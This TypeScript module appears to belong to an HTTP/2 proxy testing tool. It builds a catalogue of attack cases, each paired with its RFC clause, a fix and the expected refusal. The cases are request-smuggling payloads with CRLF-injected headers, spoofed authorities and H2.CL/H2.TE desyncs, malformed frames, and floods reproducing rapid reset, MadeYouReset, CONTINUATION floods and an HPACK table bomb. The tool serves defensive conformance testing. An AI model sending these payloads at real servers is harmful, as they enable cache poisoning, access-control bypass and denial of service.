// Attacks by HTTP/2: requests that HTTP/1.1 would read otherwise, frames that are wrong, floods.

import { h2Flag, h2Frame } from '../codec/http2-frame.js';
import { spoofedHost } from './markers.js';
import type { IAim, IAttack, IAttackWish } from './types.js';
import { smuggled } from './write-h1.js';
import { block, data, frame, headers, pseudo, regular, settings, uint32 } from './write-h2.js';

interface IH2Kind {
  readonly about: string;
  readonly clause: string;
  readonly change: string;
  readonly wish: IAttackWish;
}

type TFrames = (aim: IAim) => readonly Uint8Array[];

const attack = (kind: IH2Kind, name: string, frames: TFrames, wish: Partial<IAttackWish> = {}): IAttack => ({
  family: 'http2',
  name,
  ...kind,
  send: { kind: 'frames', frames },
  wish: { ...kind.wish, ...wish },
});

const head: IH2Kind = {
  about: 'a request of HTTP/2 that is another one, or two, when it is written in HTTP/1.1',
  clause: 'RFC 9113 §8.2.1, §8.3.1, §10.3',
  change:
    'Answer malformed requests by a stream error; check names, values and pseudo-header fields before anything is forwarded.',
  wish: { must: 'refused' },
};

const injected = '\r\nX-Smuggled: yes';

/** The pseudo-header fields with one of them replaced, or removed by null. */
function but(aim: IAim, name: string, value: string | null): string[] {
  const fields = pseudo(aim);
  const at = fields.indexOf(name);
  fields.splice(at, 2, ...(value === null ? [] : [name, value]));
  return fields;
}

const lists: readonly (readonly [name: string, fields: (aim: IAim) => string[]])[] = [
  ['no :method', (aim) => but(aim, ':method', null)],
  ['no :scheme', (aim) => but(aim, ':scheme', null)],
  ['no :path', (aim) => but(aim, ':path', null)],
  ['an empty :path', (aim) => but(aim, ':path', '')],
  ['a :path without a slash', (aim) => but(aim, ':path', `@${spoofedHost}/`)],
  ['a :path with a space', (aim) => but(aim, ':path', `${aim.path} HTTP/1.1`)],
  [
    'a :path with a request',
    (aim) => but(aim, ':path', `${aim.path} HTTP/1.1\r\nHost: ${aim.host}\r\n\r\n${smuggled(aim)}`),
  ],
  ['a :method with a space', (aim) => but(aim, ':method', `GET ${aim.path} HTTP/1.1${injected}\r\nX:`)],
  ['an :authority with CRLF', (aim) => but(aim, ':authority', `${aim.host}${injected}`)],
  ['an :authority with user information', (aim) => but(aim, ':authority', `${aim.host}@${spoofedHost}`)],
  ['two :path', (aim) => [...pseudo(aim), ':path', '/attacker']],
  ['two :authority', (aim) => [...pseudo(aim), ':authority', spoofedHost]],
  ['a pseudo-header field behind others', (aim) => [...but(aim, ':path', null), 'x', 'y', ':path', aim.path]],
  ['a pseudo-header field of answers', (aim) => [...pseudo(aim), ':status', '200']],
  ['one that is unknown', (aim) => [...pseudo(aim), ':attacker', 'y']],
  ['capitals in a name', (aim) => [...pseudo(aim), 'X-Name', 'y']],
  ['an empty name', (aim) => [...pseudo(aim), '', 'y']],
  ['a space in a name', (aim) => [...pseudo(aim), 'x y', 'z']],
  ['a colon in a name', (aim) => [...pseudo(aim), 'x: y', 'z']],
  ['CRLF in a name', (aim) => [...pseudo(aim), 'x: y\r\nx-smuggled', 'yes']],
  ['CRLF in a value', (aim) => [...pseudo(aim), 'x', `y${injected}`]],
  ['LF in a value', (aim) => [...pseudo(aim), 'x', 'y\nX-Smuggled: yes']],
  ['CR in a value', (aim) => [...pseudo(aim), 'x', 'y\rX-Smuggled: yes']],
  ['NUL in a value', (aim) => [...pseudo(aim), 'x', 'y\x00']],
  ['transfer-encoding', (aim) => [...pseudo(aim, 'POST'), 'transfer-encoding', 'chunked']],
  ['connection', (aim) => [...pseudo(aim), 'connection', 'x-forwarded-for']],
  ['upgrade', (aim) => [...pseudo(aim), 'upgrade', 'h2c']],
  ['keep-alive', (aim) => [...pseudo(aim), 'keep-alive', 'timeout=9999']],
  ['te: gzip', (aim) => [...pseudo(aim), 'te', 'gzip']],
  ['two content-lengths', (aim) => [...pseudo(aim, 'POST'), 'content-length', '0', 'content-length', '5']],
  ['CONNECT', () => [':method', 'CONNECT', ':authority', `${spoofedHost}:80`]],
];

const requests = lists.map(([name, fields]) =>
  attack(head, name, (aim) => [headers(1, [...fields(aim), ...regular(aim)])]),
);

const contents: readonly IAttack[] = [
  attack(head, ':path *', (aim) => [headers(1, [...but(aim, ':path', '*'), ...regular(aim)])], { must: 'one' }),
  attack(
    { ...head, clause: 'RFC 8441 §4' },
    'CONNECT with a protocol that nobody knows',
    (aim) => [headers(1, [...pseudo(aim, 'CONNECT'), ':protocol', 'attacker', ...regular(aim)])],
    { must: 'one' },
  ),
  attack(
    head,
    'H2.CL: less than was sent',
    (aim) => [
      headers(1, [...pseudo(aim, 'POST'), 'content-length', '0', ...regular(aim)], false),
      data(1, smuggled(aim)),
    ],
    { must: 'one' },
  ),
  attack(head, 'H2.CL: more than was sent', (aim) => [
    headers(1, [...pseudo(aim, 'POST'), 'content-length', '50', ...regular(aim)], false),
    data(1, 'hello'),
  ]),
  attack(head, 'H2.CL: +5', (aim) => [
    headers(1, [...pseudo(aim, 'POST'), 'content-length', '+5', ...regular(aim)], false),
    data(1, 'hello'),
  ]),
  attack(head, 'H2.TE', (aim) => [
    headers(1, [...pseudo(aim, 'POST'), 'transfer-encoding', 'chunked', ...regular(aim)], false),
    data(1, `0\r\n\r\n${smuggled(aim)}`),
  ]),
  attack(head, 'trailers with a pseudo-header field', (aim) => [
    headers(1, [...pseudo(aim, 'POST'), ...regular(aim)], false),
    data(1, 'hello', false),
    headers(1, [':path', '/attacker']),
  ]),
  attack(
    head,
    'trailers with content-length',
    (aim) => [
      headers(1, [...pseudo(aim, 'POST'), ...regular(aim)], false),
      data(1, 'hello', false),
      headers(1, ['content-length', '5']),
    ],
    { must: 'one', content: 'hello', absent: ['trailer content-length'] },
  ),
  attack(
    head,
    'a host that is not :authority',
    (aim) => [headers(1, [...pseudo(aim), 'host', spoofedHost, ...regular(aim)])],
    { must: 'one' },
  ),
];

const framed: IH2Kind = {
  about: 'frames that break the connection',
  clause: 'RFC 9113 §5.1, §6',
  change: 'End the connection by GOAWAY, as the clause says; a current implementation of HTTP/2 does.',
  wish: { must: 'refused' },
};

const frames: readonly (readonly [name: string, frames: TFrames])[] = [
  ['DATA on a stream that is idle', () => [data(1, 'hello')]],
  ['HEADERS on stream 0', (aim) => [headers(0, pseudo(aim))]],
  ['HEADERS on an even stream', (aim) => [headers(2, pseudo(aim))]],
  ['a stream number that goes down', (aim) => [headers(5, pseudo(aim, 'POST'), false), headers(3, pseudo(aim))]],
  ['CONTINUATION without HEADERS', () => [frame(h2Frame.continuation, h2Flag.endHeaders, 1)]],
  [
    'HEADERS within a header block',
    (aim) => [frame(h2Frame.headers, 0, 1, block(pseudo(aim))), headers(3, pseudo(aim))],
  ],
  ['SETTINGS of an odd length', () => [frame(h2Frame.settings, 0, 0, Buffer.alloc(5))]],
  ['SETTINGS on a stream', () => [frame(h2Frame.settings, 0, 1)]],
  ['a window over the limit', () => [frame(h2Frame.windowUpdate, 0, 0, uint32(0x7fff_ffff))]],
  ['WINDOW_UPDATE of 0', () => [frame(h2Frame.windowUpdate, 0, 0, uint32(0))]],
  ['PING of 4 octets', () => [frame(h2Frame.ping, 0, 0, Buffer.alloc(4))]],
  [
    'PUSH_PROMISE from a client',
    (aim) => [headers(1, pseudo(aim), false), frame(h2Frame.pushPromise, 4, 1, uint32(2))],
  ],
  ['a header block that is none', () => [headers(1, Buffer.of(0xff, 0xff, 0xff, 0xff, 0xff, 0xff))]],
  ['a frame over the limit', () => [frame(h2Frame.data, 0, 1, Buffer.alloc(20_000))]],
  ['padding over the frame', () => [frame(h2Frame.headers, h2Flag.endHeaders | h2Flag.padded, 1, Buffer.of(200, 0))]],
];

const broken = frames.map(([name, list]) => attack(framed, name, list));

const flooded: IH2Kind = {
  about: 'a flood that costs the proxy or its targets more than the attacker',
  clause: 'RFC 9113 §10.5',
  change: 'Count such frames and end the connection over a budget; update the implementation of HTTP/2.',
  wish: { must: 'closed' },
};

const repeat = (count: number, of: (at: number) => Uint8Array): Uint8Array[] => [
  Buffer.concat(Array.from({ length: count }, (_, at) => of(at))),
];

/** An entry of the dynamic table that is named again and again (RFC 7541 §6.1, §6.2.1). */
function bomb(aim: IAim): Buffer {
  const name = Buffer.concat([
    Buffer.of(0x40, 1),
    Buffer.from('x'),
    Buffer.of(0x7f, 0xd1, 0x1e),
    Buffer.alloc(4_000 - 48, 'a'),
  ]);
  return Buffer.concat([block(pseudo(aim)), name, Buffer.alloc(12_000, 0xbe)]);
}

const floods: readonly IAttack[] = [
  attack({ ...flooded, about: 'rapid reset (CVE-2023-44487): requests that are reset at once' }, 'rapid reset', (aim) =>
    repeat(2_000, (at) =>
      Buffer.concat([headers(2 * at + 1, pseudo(aim)), frame(h2Frame.rstStream, 0, 2 * at + 1, uint32(8))]),
    ),
  ),
  attack(
    { ...flooded, about: 'MadeYouReset (CVE-2025-8671): requests that the proxy is made to reset' },
    'resets by the proxy',
    (aim) =>
      repeat(2_000, (at) =>
        Buffer.concat([headers(2 * at + 1, pseudo(aim)), frame(h2Frame.windowUpdate, 0, 2 * at + 1, uint32(0))]),
      ),
  ),
  attack(
    { ...flooded, about: 'CONTINUATION flood (CVE-2024-27983, CVE-2024-28182)' },
    'CONTINUATION frames of 500 KB',
    (aim) => [
      frame(h2Frame.headers, h2Flag.endStream, 1, block(pseudo(aim))),
      ...repeat(500, () => frame(h2Frame.continuation, 0, 1, block(['x', 'y'.repeat(1_000)]))),
      frame(h2Frame.continuation, h2Flag.endHeaders, 1),
    ],
    { must: 'refused' },
  ),
  attack(
    flooded,
    'empty CONTINUATION frames',
    (aim) => [
      frame(h2Frame.headers, h2Flag.endStream, 1, block(pseudo(aim))),
      ...repeat(5_000, () => frame(h2Frame.continuation, 0, 1)),
      frame(h2Frame.continuation, h2Flag.endHeaders, 1),
    ],
    { must: 'refused' },
  ),
  attack(flooded, 'a header list of 48 MB in 16 KB', (aim) => [headers(1, bomb(aim))], { must: 'refused' }),
  attack(flooded, 'empty DATA frames', (aim) => [
    headers(1, [...pseudo(aim, 'POST'), ...regular(aim)], false),
    ...repeat(10_000, () => data(1, '', false)),
    data(1, ''),
  ]),
  attack(flooded, 'PING', () => repeat(10_000, () => frame(h2Frame.ping, 0, 0, Buffer.alloc(8)))),
  attack(flooded, 'SETTINGS', () => repeat(10_000, () => settings(3, 100))),
];

export const http2Attacks: readonly IAttack[] = [...requests, ...contents, ...broken, ...floods];
